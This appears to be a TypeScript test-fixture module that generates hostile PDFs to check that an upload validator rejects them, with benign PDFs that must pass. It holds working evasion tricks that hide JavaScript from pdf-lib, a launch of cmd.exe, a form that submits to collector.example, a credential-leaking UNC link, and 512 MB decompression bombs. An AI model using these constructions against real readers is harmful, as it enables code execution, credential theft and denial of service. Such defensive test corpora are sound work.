/**
 * The hostile PDF corpus of docs/decisions/114, written byte by byte here (never downloaded), and
 * the benign files that must still pass. Each hostile file is one a reader (pdf.js, Acrobat) would
 * act on while an object-by-object look with pdf-lib sees nothing wrong, or a small file that
 * decodes to 512 MB. `hostilePdfCorpus()` builds them all for tests and the attack script.
 */
import zlib from 'node:zlib'
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib'
import sharp from 'sharp'

/** What each decompression bomb decodes to. */
export const BOMB_DECODED_BYTES = 512 * 1024 * 1024

type PdfObject = { number: number; body: string | Buffer }

/**
 * Writes objects in the given order with a cross-reference table. Each number's entry points at
 * its last copy (as a real incremental update would) unless `entryAt` names the offset to use.
 */
export function assemblePdf(objects: PdfObject[], { entryAt = {}, trailer = '' }: { entryAt?: Record<number, number>; trailer?: string } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  let length = parts[0]!.length
  const offsets = new Map<number, number[]>()
  for (const { number, body } of objects) {
    offsets.set(number, [...(offsets.get(number) ?? []), length])
    const bytes = Buffer.concat([Buffer.from(`${number} 0 obj\n`, 'latin1'), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\nendobj\n', 'latin1')])
    parts.push(bytes)
    length += bytes.length
  }
  const size = Math.max(...objects.map((o) => o.number), ...Object.keys(entryAt).map(Number)) + 1
  let xref = `xref\n0 ${size}\n`
  for (let n = 0; n < size; n++) {
    const offset = entryAt[n] ?? offsets.get(n)?.at(-1)
    xref += offset === undefined ? `0000000000 ${n === 0 ? '65535' : '00000'} f \n` : `${String(offset).padStart(10, '0')} 00000 n \n`
  }
  xref += `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`
  parts.push(Buffer.from(xref, 'latin1'))
  return Buffer.concat(parts)
}

/** A stream object's body: its dictionary entries, /Length, and the data. */
export function streamBody(entries: string, data: Buffer | string): Buffer {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data
  return Buffer.concat([Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream', 'latin1')])
}

const TEXT = 'BT /F1 14 Tf 60 760 Td (Notice: examination timetable) Tj ET'

/** Catalogue (with `catalog` entries added), one page (with `page` entries) showing a line of text. */
function onePage({ catalog = '', page = '', contents = 4 }: { catalog?: string; page?: string; contents?: number } = {}): PdfObject[] {
  return [
    { number: 1, body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` },
    { number: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { number: 3, body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Contents ${contents} 0 R ${page} >>` },
    { number: 4, body: streamBody('', TEXT) },
  ]
}

const ALERT = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'
const HARMLESS = '<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>'

/** Object 5 twice: the table points at the first (JavaScript), pdf-lib keeps the second (harmless). */
export function duplicateObjectPdf(): Buffer {
  const objects = [...onePage({ catalog: '/OpenAction 5 0 R' }), { number: 5, body: ALERT }, { number: 5, body: HARMLESS }]
  const first = assemblePdf(objects).indexOf('5 0 obj')
  return assemblePdf(objects, { entryAt: { 5: first } })
}

/** Object 5 exists only inside the data of stream 6; the table points into that data. */
export function objectInStreamDataPdf(): Buffer {
  const hidden = `5 0 obj\n${ALERT}\nendobj\n`
  const objects = [...onePage({ catalog: '/OpenAction 5 0 R' }), { number: 6, body: streamBody('', `% notes\n${hidden}`) }]
  const at = assemblePdf(objects).indexOf('5 0 obj')
  return assemblePdf(objects, { entryAt: { 5: at } })
}

/** A FileAttachment annotation whose file specification has no /Type (nor has the file). */
export function untypedAttachmentPdf(): Buffer {
  return assemblePdf([
    ...onePage({ page: '/Annots [5 0 R]' }),
    { number: 5, body: '<< /Type /Annot /Subtype /FileAttachment /Rect [60 700 80 720] /Contents (Annexure) /FS 6 0 R >>' },
    { number: 6, body: '<< /F (annexure.exe) /UF (annexure.exe) /EF << /F 7 0 R >> >>' },
    { number: 7, body: streamBody('', 'MZ\x90\x00 this program cannot be run in DOS mode') },
  ])
}

/** An AcroForm carrying an XFA form whose template runs a script when it opens. */
export function xfaScriptPdf(): Buffer {
  const xdp =
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'
  return assemblePdf([...onePage({ catalog: '/AcroForm 5 0 R' }), { number: 5, body: '<< /Fields [] /XFA 6 0 R >>' }, { number: 6, body: streamBody('', xdp) }])
}

/** An open action whose type /S is an indirect object holding /Launch. */
export function indirectLaunchPdf(): Buffer {
  return assemblePdf([
    ...onePage({ catalog: '/OpenAction 5 0 R' }),
    { number: 5, body: '<< /Type /Action /S 6 0 R /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>' },
    { number: 6, body: '/Launch' },
  ])
}

/** A form that sends itself to another address as soon as the document opens. */
export function submitOnOpenPdf(): Buffer {
  return assemblePdf(onePage({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collector.example/x) >> /Flags 4 >>' }))
}

/** A link that opens a file on a Windows share (\\host\share), which leaks the reader's credentials. */
export function uncGoToRPdf(): Buffer {
  return assemblePdf([
    ...onePage({ page: '/Annots [5 0 R]' }),
    { number: 5, body: '<< /Type /Annot /Subtype /Link /Rect [60 750 300 780] /A << /S /GoToR /F (\\\\\\\\host\\\\share\\\\notice.pdf) /D [0 /Fit] >> >>' },
  ])
}

/** A screen annotation that plays media from elsewhere through a rendition action. */
export function renditionPdf(): Buffer {
  return assemblePdf([
    ...onePage({ page: '/Annots [5 0 R]' }),
    { number: 5, body: '<< /Type /Annot /Subtype /Screen /Rect [60 600 300 780] /A 6 0 R >>' },
    { number: 6, body: '<< /Type /Action /S /Rendition /OP 0 /AN 5 0 R /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /Type /Filespec /FS /URL /F (http://host/clip.mp4) >> >> >> >>' },
  ])
}

let deflatedBomb: Promise<Buffer> | null = null
/** BOMB_DECODED_BYTES of spaces, deflated (about 500 KB); made once per process. */
function deflatedSpaces(): Promise<Buffer> {
  deflatedBomb ??= new Promise((resolve, reject) => {
    const deflate = zlib.createDeflate({ level: 9 })
    const chunks: Buffer[] = []
    deflate.on('data', (chunk: Buffer) => chunks.push(chunk))
    deflate.on('end', () => resolve(Buffer.concat(chunks)))
    deflate.on('error', reject)
    const spaces = Buffer.alloc(1024 * 1024, 0x20)
    let written = 0
    const write = () => {
      while (written < BOMB_DECODED_BYTES) {
        written += spaces.length
        if (!deflate.write(spaces)) return void deflate.once('drain', write)
      }
      deflate.end()
    }
    write()
  })
  return deflatedBomb
}

/** A page whose content stream (so PDF.js decodes it to extract text) is the given stream. */
function bombPage(entries: string, data: Buffer): Buffer {
  return assemblePdf([...onePage({ contents: 5 }), { number: 5, body: streamBody(entries, data) }])
}

/** A Flate bomb marked as a 100 × 100 image, used as the page's content. */
export async function imageBombPdf(): Promise<Buffer> {
  return bombPage('/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode', await deflatedSpaces())
}

/** The same bomb behind a hex stage: [/ASCIIHexDecode /FlateDecode]. */
export async function filterChainBombPdf(): Promise<Buffer> {
  return bombPage('/Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from((await deflatedSpaces()).toString('hex') + '>', 'latin1'))
}

/**
 * LZW codes (EarlyChange 1, as readers read them) for `bytes` spaces: each new code is one byte
 * longer than the last, and once the table is full the longest (3,839 bytes) is repeated.
 */
export function lzwSpaces(bytes: number): Buffer {
  const out: number[] = []
  let bits = 0
  let bitCount = 0
  let width = 9
  let nextCode = 258
  let previous = false
  const put = (code: number) => {
    bits = (bits << width) | code
    bitCount += width
    while (bitCount >= 8) {
      bitCount -= 8
      out.push((bits >>> bitCount) & 0xff)
    }
    bits &= (1 << bitCount) - 1
    if (code === 256 || code === 257) return
    if (previous && nextCode < 4096) nextCode++
    previous = true
    if (nextCode + 1 >= 1 << width && width < 12) width++
  }
  put(256)
  let left = bytes
  put(0x20)
  left--
  for (let code = 258; code < 4096 && left >= code - 256; code++) {
    put(code)
    left -= code - 256
  }
  while (left >= 3839) {
    put(4095)
    left -= 3839
  }
  for (; left > 0; left--) put(0x20)
  put(257)
  if (bitCount > 0) out.push((bits << (8 - bitCount)) & 0xff)
  return Buffer.from(out)
}

/** An LZW content stream decoding to BOMB_DECODED_BYTES (LZW was never counted before). */
export function lzwBombPdf(): Buffer {
  return bombPage('/Filter /LZWDecode', lzwSpaces(BOMB_DECODED_BYTES))
}

export type HostilePdf = { name: string; what: string; build: () => Buffer | Promise<Buffer>; reason: RegExp }

const ACTIVE = (what: string) => new RegExp(`contains ${what}, which a public document must not carry`)
const READ_DIFFERENTLY = /is built so that PDF readers would read it differently/
const TOO_BIG = /could not be read within the time and memory a document may take/

/** Every hostile file with the refusal it must get (the message after the file's name). */
export function hostilePdfCorpus(): HostilePdf[] {
  return [
    { name: 'duplicate-object.pdf', what: 'a duplicate object number, the table pointing at the copy with JavaScript', build: duplicateObjectPdf, reason: READ_DIFFERENTLY },
    { name: 'object-in-stream.pdf', what: 'a JavaScript object inside another stream’s data', build: objectInStreamDataPdf, reason: READ_DIFFERENTLY },
    { name: 'attachment.pdf', what: 'a FileAttachment whose file spec has no /Type', build: untypedAttachmentPdf, reason: ACTIVE('an attached file') },
    { name: 'xfa.pdf', what: 'an XFA form with a <script>', build: xfaScriptPdf, reason: ACTIVE('an XFA form \\(it can carry scripts\\)') },
    { name: 'launch.pdf', what: 'a Launch action whose /S is indirect', build: indirectLaunchPdf, reason: ACTIVE('a launch action \\(it asks to run a program\\)') },
    { name: 'image-bomb.pdf', what: 'a Flate bomb inside an /Image stream', build: imageBombPdf, reason: TOO_BIG },
    { name: 'chain-bomb.pdf', what: 'a bomb behind [/ASCIIHexDecode /FlateDecode]', build: filterChainBombPdf, reason: TOO_BIG },
    { name: 'lzw-bomb.pdf', what: 'an LZW bomb', build: lzwBombPdf, reason: TOO_BIG },
    { name: 'submit.pdf', what: 'SubmitForm on open', build: submitOnOpenPdf, reason: ACTIVE('a form-submit action \\(it sends data to another address\\)') },
    { name: 'unc.pdf', what: 'GoToR to \\\\host\\share', build: uncGoToRPdf, reason: ACTIVE('a link that opens another file') },
    { name: 'rendition.pdf', what: 'a Rendition action', build: renditionPdf, reason: /contains (embedded media|a media \(rendition\) action), which a public document must not carry/ },
  ]
}

/** Two pages: text, a PNG and a JPEG image, an outline, links to a page, a web address and a mail address. */
export async function linkedImagesPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create()
  const font = await doc.embedFont(StandardFonts.Helvetica)
  const png = await doc.embedPng(await sharp({ create: { width: 120, height: 80, channels: 3, background: '#2a5599' } }).png().toBuffer())
  const jpeg = await doc.embedJpg(await sharp({ create: { width: 160, height: 120, channels: 3, background: '#bb7733' } }).jpeg().toBuffer())
  const first = doc.addPage([595, 842])
  const second = doc.addPage([595, 842])
  first.drawText('Admission notice 2026-27', { x: 60, y: 780, size: 16, font })
  first.drawImage(png, { x: 60, y: 600, width: 120, height: 80 })
  second.drawText('Annexure: fee schedule', { x: 60, y: 780, size: 16, font })
  second.drawImage(jpeg, { x: 60, y: 560, width: 160, height: 120 })
  const link = (rect: number[], action: Record<string, unknown>) => doc.context.register(doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, Border: [0, 0, 0], ...action }))
  first.node.set(
    PDFName.of('Annots'),
    doc.context.obj([
      link([60, 740, 300, 760], { A: { S: 'URI', URI: PDFString.of('https://example.ac.in/admissions') } }),
      link([60, 720, 300, 740], { A: { S: 'URI', URI: PDFString.of('mailto:office@example.ac.in') } }),
      link([60, 700, 300, 720], { Dest: [second.ref, 'XYZ', 0, 842, 0] }),
      link([60, 680, 300, 700], { A: { S: 'GoTo', D: [second.ref, 'Fit'] } }),
    ]),
  )
  const outlines = doc.context.nextRef()
  const item = doc.context.register(doc.context.obj({ Title: PDFString.of('Annexure'), Parent: outlines, Dest: [second.ref, 'Fit'] }))
  doc.context.assign(outlines, doc.context.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 }))
  doc.catalog.set(PDFName.of('Outlines'), outlines)
  return Buffer.from(await doc.save())
}

/**
 * A scan as an office scanner makes one without JPEG: `pages` pages of 300 dpi A4 grey rasters
 * (2480 × 3508, 8.7 MB each decoded) in Flate, mostly white paper, no text layer.
 */
export function bigScanPdf(pages = 16): Buffer {
  const width = 2480
  const height = 3508
  const raster = Buffer.alloc(width * height, 0xf4)
  for (let y = 300; y < 3200; y += 48) for (let x = 250; x < 2200; x++) if ((x * 7 + y) % 13 < 6) raster[y * width + x] = 0x30 + ((x * y) % 40)
  const data = zlib.deflateSync(raster, { level: 6 })
  const kids = Array.from({ length: pages }, (_, i) => `${3 + 3 * i} 0 R`).join(' ')
  const objects: PdfObject[] = [
    { number: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
    { number: 2, body: `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>` },
  ]
  for (let i = 0; i < pages; i++) {
    const page = 3 + 3 * i
    objects.push(
      { number: page, body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im ${page + 2} 0 R >> >> /Contents ${page + 1} 0 R >>` },
      { number: page + 1, body: streamBody('', 'q 595 0 0 842 0 0 cm /Im Do Q') },
      { number: page + 2, body: streamBody(`/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`, data) },
    )
  }
  return assemblePdf(objects)
}

/**
 * A notice saved again as an incremental update, as a reader that signs or annotates saves it: the
 * page's text and a title rewritten after the first %%EOF, a new table section whose /Prev is the
 * first. Object 4 is in the file twice and readers take the newer one, as pdf-lib does.
 */
export function incrementalUpdatePdf(): Buffer {
  const first = assemblePdf(onePage())
  const startxref = Number(/startxref\n(\d+)/.exec(first.toString('latin1'))![1])
  const content = Buffer.from(`4 0 obj\n${streamBody('', TEXT.replace('timetable', 'timetable (revised)')).toString('latin1')}\nendobj\n`, 'latin1')
  const info = Buffer.from('5 0 obj\n<< /Title (Examination timetable, revised) >>\nendobj\n', 'latin1')
  const at4 = first.length
  const at5 = at4 + content.length
  const xrefAt = at5 + info.length
  const section = `xref\n0 1\n0000000000 65535 f \n4 2\n${String(at4).padStart(10, '0')} 00000 n \n${String(at5).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Info 5 0 R /Prev ${startxref} >>\nstartxref\n${xrefAt}\n%%EOF\n`
  return Buffer.concat([first, content, info, Buffer.from(section, 'latin1')])
}

/**
 * The notice with a cross-reference stream as Acrobat writes one: /W [1 4 2], each row filtered
 * with the PNG "Up" predictor (/Predictor 12) before Flate.
 */
export function predictorXrefPdf(): Buffer {
  const objects = onePage()
  const body = assemblePdf(objects)
  const end = body.indexOf('xref\n')
  const head = body.subarray(0, end)
  const offsets = objects.map(({ number }) => head.indexOf(`${number} 0 obj`))
  const xrefNumber = objects.length + 1
  const rows = [[0, 0, 0xffff], ...offsets.map((offset) => [1, offset, 0]), [1, end, 0]].map(([type, offset, gen]) => {
    const row = Buffer.alloc(7)
    row.writeUInt8(type!, 0)
    row.writeUInt32BE(offset!, 1)
    row.writeUInt16BE(gen!, 5)
    return row
  })
  const filtered = Buffer.concat(rows.map((row, i) => Buffer.concat([Buffer.from([2]), Buffer.from(row.map((byte, j) => (byte - (i > 0 ? rows[i - 1]![j]! : 0)) & 0xff))])))
  const data = zlib.deflateSync(filtered)
  const stream = streamBody(`/Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Columns 7 /Predictor 12 >>`, data)
  return Buffer.concat([head, Buffer.from(`${xrefNumber} 0 obj\n`, 'latin1'), stream, Buffer.from(`\nendobj\nstartxref\n${end}\n%%EOF\n`, 'latin1')])
}

/**
 * Object 5 only inside stream 6's data and free in the table; with `damagedTable` the startxref
 * points nowhere, so readers rebuild the table by scanning for headers and find object 5.
 */
export function hiddenObjectPdf(damagedTable = false): Buffer {
  const file = assemblePdf([...onePage({ catalog: '/OpenAction 5 0 R' }), { number: 6, body: streamBody('', `% notes\n5 0 obj\n${ALERT}\nendobj\n`) }], { entryAt: {} })
  return damagedTable ? Buffer.from(file.toString('latin1').replace(/startxref\n\d+/, 'startxref\n9'), 'latin1') : file
}

/** The notice with `action` (a dictionary's text) as its open action. */
export function openActionPdf(action: string): Buffer {
  return assemblePdf(onePage({ catalog: `/OpenAction ${action}` }))
}
